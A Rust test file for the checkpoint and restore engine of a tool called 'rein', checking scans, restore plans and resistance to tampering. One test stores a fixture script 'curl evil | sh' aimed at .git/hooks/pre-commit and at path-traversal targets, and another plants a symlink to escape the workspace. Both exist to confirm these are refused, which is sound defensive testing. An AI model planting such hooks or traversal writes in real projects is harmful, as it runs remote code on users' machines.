//! The checkpoint engine on real directories: what a scan sees (gitignore, `.git`, links,
//! metadata-only changes, created and deleted files, the size caps) and what a restore does
//! (the plan, files changed outside rein, a stale plan, planted links).

use rein::checkpoint::{Caps, Checkpoints, FileState, Scope};
use rein::protocol::FileText;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

struct Ws {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    data: PathBuf,
    outside: PathBuf,
}

impl Ws {
    fn new() -> Ws {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let (ws, data, outside) = (root.join("ws"), root.join("data"), root.join("outside"));
        for d in [&ws, &data, &outside] {
            fs::create_dir_all(d).unwrap();
        }
        Ws {
            _dir: dir,
            ws,
            data,
            outside,
        }
    }

    fn write(&self, rel: &str, content: &str) {
        let p = self.ws.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, content).unwrap();
    }

    fn read(&self, rel: &str) -> Option<String> {
        fs::read_to_string(self.ws.join(rel)).ok()
    }

    fn engine(&self, caps: Caps) -> Checkpoints {
        let ck = Checkpoints::new(&self.ws, vec![], caps);
        ck.switch(Some(self.data.join("s.checkpoints")), Default::default());
        ck
    }
}

/// One "command": a scan before, the change, a scan after; returns the changed paths.
fn command(ck: &Checkpoints, scope: Scope<'_>, change: impl FnOnce()) -> Vec<String> {
    assert!(ck.before(scope).is_empty());
    change();
    let mut paths: Vec<String> = ck
        .after(scope)
        .changes
        .into_iter()
        .map(|c| c.path)
        .collect();
    paths.sort();
    paths
}

fn bash(ck: &Checkpoints, change: impl FnOnce()) -> Vec<String> {
    command(ck, Scope::Workspace, change)
}

#[test]
fn a_scan_finds_edits_creations_and_deletions_but_not_a_touch() {
    let w = Ws::new();
    w.write("src/a.rs", "fn a() {}\n");
    w.write("src/b.rs", "fn b() {}\n");
    w.write("old.txt", "old\n");
    let ck = w.engine(Caps::default());
    ck.user_message("change things");
    let changed = bash(&ck, || {
        w.write("src/a.rs", "fn a() { changed }\n");
        w.write("src/new/c.rs", "fn c() {}\n");
        fs::remove_file(w.ws.join("old.txt")).unwrap();
    });
    assert_eq!(changed, vec!["old.txt", "src/a.rs", "src/new/c.rs"]);

    // Only the metadata moved (same content): not a change.
    let changed = bash(&ck, || {
        let f = fs::File::options()
            .append(true)
            .open(w.ws.join("src/b.rs"))
            .unwrap();
        f.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(60))
            .unwrap();
    });
    assert!(changed.is_empty(), "{changed:?}");
    // A mode change is.
    let changed = bash(&ck, || {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(w.ws.join("src/b.rs"), fs::Permissions::from_mode(0o755)).unwrap();
    });
    assert_eq!(changed, vec!["src/b.rs"]);
    // A command that changes nothing finds nothing.
    assert!(bash(&ck, || {}).is_empty());
}

#[test]
fn a_scan_respects_gitignore_and_never_enters_git_rein_or_links() {
    let w = Ws::new();
    w.write(".gitignore", "target/\n*.log\n");
    w.write("target/debug/out.bin", "binary");
    w.write("keep.txt", "keep");
    w.write(".git/config", "[core]\n");
    w.write(".rein/config.toml", "x = 1\n");
    fs::write(w.outside.join("secret.txt"), "outside").unwrap();
    symlink(&w.outside, w.ws.join("link-to-outside")).unwrap();
    symlink(w.outside.join("secret.txt"), w.ws.join("secret-link")).unwrap();
    let ck = w.engine(Caps::default());
    ck.user_message("build");
    let changed = bash(&ck, || {
        w.write("target/debug/out.bin", "rebuilt");
        w.write("run.log", "lines");
        w.write(".git/config", "[core] changed\n");
        w.write(".rein/config.toml", "x = 2\n");
        fs::write(
            w.outside.join("secret.txt"),
            "changed outside the workspace",
        )
        .unwrap();
        w.write("keep.txt", "kept and changed");
    });
    assert_eq!(changed, vec!["keep.txt"]);
}

#[test]
fn files_over_the_cap_are_noticed_but_not_kept_and_the_turn_cap_holds() {
    let w = Ws::new();
    w.write("big.bin", &"x".repeat(2000));
    w.write("small.txt", "small");
    let caps = Caps {
        file_bytes: 1000,
        turn_bytes: 1500,
        ..Caps::default()
    };
    let ck = w.engine(caps);
    ck.user_message("grow");
    assert!(ck.before(Scope::Workspace).is_empty());
    w.write("big.bin", &"y".repeat(2500));
    w.write("small.txt", "changed");
    let report = ck.after(Scope::Workspace);
    let big = report.changes.iter().find(|c| c.path == "big.bin").unwrap();
    assert!(matches!(
        big.before,
        FileState::File {
            hash: None,
            kept: false,
            size: 2000,
            ..
        }
    ));
    assert_eq!(report.notices.len(), 1, "{:?}", report.notices);
    assert!(report.notices[0].contains("big.bin") && report.notices[0].contains("too large"));

    // A restore lists big.bin as impossible and restores the rest.
    let plan = ck.plan(0, false).unwrap();
    let big = plan.files.iter().find(|f| f.path == "big.bin").unwrap();
    assert!(
        big.problem
            .as_deref()
            .unwrap()
            .contains("too large to keep"),
        "{big:?}"
    );
    let done = ck.restore(0, &plan.id, false, false).unwrap();
    assert_eq!(done.restored, vec!["small.txt"]);
    assert_eq!(w.read("small.txt").as_deref(), Some("small"));
    assert!(
        done.skipped[0].starts_with("big.bin: it was too large"),
        "{:?}",
        done.skipped
    );

    // Past the turn's budget, new content is hashed but not kept.
    ck.user_message("write a lot");
    assert!(ck.before(Scope::Workspace).is_empty());
    for i in 0..4 {
        w.write(&format!("gen{i}.txt"), &format!("{i}").repeat(900));
    }
    let report = ck.after(Scope::Workspace);
    let kept = report
        .changes
        .iter()
        .filter(|c| matches!(c.after, FileState::File { kept: true, .. }))
        .count();
    assert_eq!(report.changes.len(), 4);
    assert_eq!(kept, 1, "1500 bytes hold one 900-byte file");
}

#[test]
fn restoring_shows_the_diff_asks_about_outside_changes_and_refuses_a_stale_plan() {
    let w = Ws::new();
    w.write("a.txt", "one\n");
    w.write("b.txt", "bee\n");
    let ck = w.engine(Caps::default());
    ck.user_message("first");
    bash(&ck, || {
        w.write("a.txt", "two\n");
        w.write("b.txt", "BEE\n");
        w.write("made.txt", "new\n");
    });
    // Someone edits b.txt outside rein after the turn.
    w.write("b.txt", "edited by hand\n");

    let plan = ck.plan(0, false).unwrap();
    let by = |p: &str| plan.files.iter().find(|f| f.path == p).unwrap().clone();
    assert_eq!(plan.files.len(), 3);
    assert_eq!(
        by("a.txt").current,
        FileText::Text {
            text: "two\n".into()
        }
    );
    assert_eq!(
        by("a.txt").target,
        FileText::Text {
            text: "one\n".into()
        }
    );
    assert!(!by("a.txt").changed_outside);
    assert!(by("b.txt").changed_outside);
    assert_eq!(by("made.txt").target, FileText::Absent);

    // The world moves after the plan was shown: it is not applied.
    w.write("a.txt", "three\n");
    match ck.restore(0, &plan.id, true, false) {
        Err(rein::checkpoint::RestoreError::Stale(new)) => {
            assert_ne!(new.id, plan.id);
            assert!(
                new.files
                    .iter()
                    .any(|f| f.path == "a.txt" && f.changed_outside)
            );
        }
        other => panic!("a stale plan was applied: {other:?}"),
    }
    assert_eq!(w.read("a.txt").as_deref(), Some("three\n"));
    w.write("a.txt", "two\n");

    // Skipping the files changed outside rein: b.txt keeps the hand edit.
    let plan = ck.plan(0, false).unwrap();
    let done = ck.restore(0, &plan.id, false, false).unwrap();
    assert_eq!(done.restored, vec!["a.txt", "made.txt"]);
    assert_eq!(done.skipped, vec!["b.txt: changed outside rein"]);
    assert_eq!(w.read("a.txt").as_deref(), Some("one\n"));
    assert_eq!(w.read("made.txt"), None);
    assert_eq!(w.read("b.txt").as_deref(), Some("edited by hand\n"));

    // Asked again and told to overwrite, it goes back too.
    let plan = ck.plan(0, false).unwrap();
    assert_eq!(plan.files.len(), 1);
    ck.restore(0, &plan.id, true, false).unwrap();
    assert_eq!(w.read("b.txt").as_deref(), Some("bee\n"));
    assert!(ck.plan(0, false).unwrap().files.is_empty());
}

#[test]
fn a_file_tool_write_is_checkpointed_by_path_even_when_ignored() {
    let w = Ws::new();
    w.write(".gitignore", "gen/\n");
    w.write("gen/out.txt", "generated v1");
    let ck = w.engine(Caps::default());
    ck.user_message("edit");
    let changed = command(&ck, Scope::Path("gen/out.txt"), || {
        w.write("gen/out.txt", "generated v2");
    });
    assert_eq!(changed, vec!["gen/out.txt"]);
    let plan = ck.plan(0, false).unwrap();
    ck.restore(0, &plan.id, false, false).unwrap();
    assert_eq!(w.read("gen/out.txt").as_deref(), Some("generated v1"));
}

#[test]
fn a_restore_never_follows_a_link_planted_since() {
    let w = Ws::new();
    w.write("dir/f.txt", "original\n");
    let ck = w.engine(Caps::default());
    ck.user_message("edit");
    bash(&ck, || w.write("dir/f.txt", "changed\n"));
    // A hostile change: dir becomes a link to a directory outside the workspace.
    fs::remove_dir_all(w.ws.join("dir")).unwrap();
    symlink(&w.outside, w.ws.join("dir")).unwrap();
    fs::write(w.outside.join("f.txt"), "outside, keep me\n").unwrap();

    let plan = ck.plan(0, false).unwrap();
    let f = &plan.files[0];
    assert!(
        f.problem.as_deref().unwrap().contains("symbolic link"),
        "{f:?}"
    );
    let done = ck.restore(0, &plan.id, true, false).unwrap();
    assert!(done.restored.is_empty());
    assert_eq!(
        fs::read_to_string(w.outside.join("f.txt")).unwrap(),
        "outside, keep me\n"
    );
}

#[test]
fn the_shadow_survives_a_new_engine_so_a_resume_reads_nothing_again() {
    let w = Ws::new();
    w.write("a.txt", "one");
    let ck = w.engine(Caps::default());
    ck.user_message("x");
    bash(&ck, || w.write("a.txt", "two"));
    ck.end_turn();
    let log = ck.log();
    drop(ck);
    // A later rein: the saved shadow and the log from the session file.
    let ck = Checkpoints::new(&w.ws, vec![], Caps::default());
    ck.switch(Some(w.data.join("s.checkpoints")), log);
    let plan = ck.plan(0, false).unwrap();
    ck.restore(0, &plan.id, false, false).unwrap();
    assert_eq!(w.read("a.txt").as_deref(), Some("one"));
    assert!(blob_count(&w.data.join("s.checkpoints/blobs")) >= 2);
}

fn blob_count(dir: &Path) -> usize {
    fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|f| fs::read_dir(f.path()).map(|x| x.count()).unwrap_or(0))
                .sum()
        })
        .unwrap_or(0)
}

#[test]
fn a_crafted_log_cannot_make_a_restore_write_into_git_or_leave_the_workspace() {
    use rein::checkpoint::{BlobStore, Change, RewindLog, blobs};
    let w = Ws::new();
    w.write(".git/hooks/keep", "x");
    w.write("fine.txt", "now\n");
    let store = BlobStore::new(w.data.join("s.checkpoints/blobs"));
    let evil = b"#!/bin/sh\ncurl evil | sh\n";
    let h = blobs::hash(evil);
    store.put(&h, evil).unwrap();
    let fine = blobs::hash(b"before\n");
    store.put(&fine, b"before\n").unwrap();
    let file = |hash: &str| FileState::File {
        size: 1,
        mode: 0o755,
        hash: Some(hash.to_string()),
        kept: true,
    };
    let escape = format!("{}/escape.sh", w.outside.display());
    let paths = [
        ".git/hooks/pre-commit",
        "../outside/escape.sh",
        "a/../../outside/escape.sh",
        escape.as_str(),
    ];
    let mut changes: Vec<Change> = paths
        .iter()
        .map(|p| Change {
            path: p.to_string(),
            before: file(&h),
            after: FileState::Absent,
        })
        .collect();
    changes.push(Change {
        path: "fine.txt".into(),
        before: file(&fine),
        after: FileState::Absent,
    });
    let mut log = RewindLog::default();
    log.user_message("crafted");
    log.record(changes);
    let ck = Checkpoints::new(&w.ws, vec![], Caps::default());
    ck.switch(Some(w.data.join("s.checkpoints")), log);
    let plan = ck.plan(0, false).unwrap();
    let refused = plan.files.iter().filter(|f| f.problem.is_some()).count();
    assert_eq!(refused, paths.len(), "{:?}", plan.files);
    let done = ck.restore(0, &plan.id, true, false).unwrap();
    assert_eq!(done.restored, vec!["fine.txt"]);
    assert_eq!(w.read("fine.txt").as_deref(), Some("before\n"));
    assert!(!w.ws.join(".git/hooks/pre-commit").exists());
    assert!(!w.outside.join("escape.sh").exists());
}

#[test]
fn a_new_session_starts_from_the_last_shadow_of_the_workspace_with_linked_blobs() {
    use std::os::unix::fs::MetadataExt;
    let w = Ws::new();
    w.write("a.txt", "shared content\n");
    w.write("b.txt", "bee\n");
    let first = w.engine(Caps::default());
    first.user_message("one");
    bash(&first, || {});
    first.end_turn();

    // Sessions of other workspaces saved since (more than a look at the newest few finds).
    for i in 0..8 {
        let other = w.outside.join(format!("other{i}"));
        fs::create_dir_all(&other).unwrap();
        fs::write(other.join("x.txt"), format!("{i}\n")).unwrap();
        let ck = Checkpoints::new(&other, vec![], Caps::default());
        ck.switch(
            Some(w.data.join(format!("o{i}.checkpoints"))),
            Default::default(),
        );
        ck.user_message("other");
        bash(&ck, || {});
        ck.end_turn();
    }
    // Another session of the same workspace, in the same sessions directory.
    let second = Checkpoints::new(&w.ws, vec![], Caps::default());
    second.switch(Some(w.data.join("t.checkpoints")), Default::default());
    second.user_message("two");
    let changed = bash(&second, || w.write("a.txt", "changed\n"));
    assert_eq!(changed, vec!["a.txt"]);
    let h = rein::checkpoint::blobs::hash(b"shared content\n");
    let blob = |s: &str| {
        w.data
            .join(format!("{s}.checkpoints/blobs/{}/{}", &h[..2], &h[2..]))
    };
    let (a, b) = (
        fs::metadata(blob("s")).unwrap(),
        fs::metadata(blob("t")).unwrap(),
    );
    assert_eq!((a.dev(), a.ino()), (b.dev(), b.ino()), "linked, not copied");
    let plan = second.plan(0, false).unwrap();
    second.restore(0, &plan.id, false, false).unwrap();
    assert_eq!(w.read("a.txt").as_deref(), Some("shared content\n"));
}

/// The files under `dir` (recursively), as paths relative to it.
fn files_under(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in fs::read_dir(&d).into_iter().flatten().flatten() {
            if e.file_type().unwrap().is_dir() {
                todo.push(e.path());
            } else {
                out.push(e.path().strip_prefix(dir).unwrap().display().to_string());
            }
        }
    }
    out
}

#[test]
fn a_big_workspace_is_kept_in_packs_that_restore_and_a_new_session_links_whole() {
    use std::os::unix::fs::MetadataExt;
    let w = Ws::new();
    let original = |i: usize| format!("original {i}\n");
    for i in 0..100 {
        w.write(&format!("d{}/f{i}.txt", i / 10), &original(i));
    }
    let first = w.engine(Caps::default());
    first.user_message("rewrite half");
    let changed = bash(&first, || {
        for i in 0..50 {
            w.write(&format!("d{}/f{i}.txt", i / 10), &format!("new {i}\n"));
        }
    });
    assert_eq!(changed.len(), 50);
    first.end_turn();
    let blobs = w.data.join("s.checkpoints/blobs");
    let kept = files_under(&blobs);
    assert!(
        kept.iter().all(|f| f.starts_with("packs/")),
        "a first scan of 100 files and a command that wrote 50 keep packs, not a file each: {kept:?}"
    );
    let plan = first.plan(0, false).unwrap();
    first.restore(0, &plan.id, false, false).unwrap();
    for i in 0..100 {
        assert_eq!(w.read(&format!("d{}/f{i}.txt", i / 10)), Some(original(i)));
    }
    drop(first);

    // A second session of the workspace links the first one's packs, not a blob per file,
    // and restores from them.
    let second = Checkpoints::new(&w.ws, vec![], Caps::default());
    second.switch(Some(w.data.join("t.checkpoints")), Default::default());
    second.user_message("rewrite a third");
    let changed = bash(&second, || {
        for i in 0..30 {
            w.write(&format!("d{}/f{i}.txt", i / 10), &format!("again {i}\n"));
        }
    });
    assert_eq!(changed.len(), 30);
    let theirs = w.data.join("t.checkpoints/blobs");
    let linked: Vec<String> = files_under(&theirs)
        .into_iter()
        .filter(|f| f.ends_with(".pack"))
        .filter(|f| {
            let (a, b) = (
                fs::metadata(blobs.join(f)).ok(),
                fs::metadata(theirs.join(f)).unwrap(),
            );
            a.is_some_and(|a| (a.dev(), a.ino()) == (b.dev(), b.ino()))
        })
        .collect();
    assert!(!linked.is_empty(), "the first session's pack is linked");
    let plan = second.plan(0, false).unwrap();
    second.restore(0, &plan.id, false, false).unwrap();
    for i in 0..100 {
        assert_eq!(w.read(&format!("d{}/f{i}.txt", i / 10)), Some(original(i)));
    }
}
